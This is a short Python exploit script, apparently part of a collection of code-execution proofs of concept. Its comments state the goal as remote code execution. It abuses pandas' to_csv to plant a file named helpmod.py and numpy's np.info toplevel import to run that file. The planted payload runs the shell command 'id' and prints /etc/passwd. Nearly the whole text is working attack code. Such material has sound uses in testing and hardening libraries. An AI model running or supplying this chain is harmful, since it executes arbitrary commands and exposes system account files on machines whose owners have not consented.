# source: numpy.lib.utils.info _makenamedict __import__; sys.path[0] shadowing
# family: string->import (np.info toplevel) + planted .py via to_csv
# goal: RCE: id + /etc/passwd
import numpy as np
import pandas as pd
payload = "import os;print(os.popen('id').read());print(open('/etc/passwd').read())"
pd.DataFrame({"c": [payload]}).to_csv("helpmod.py", index=False, header=False)
np.info("mean", toplevel="helpmod")
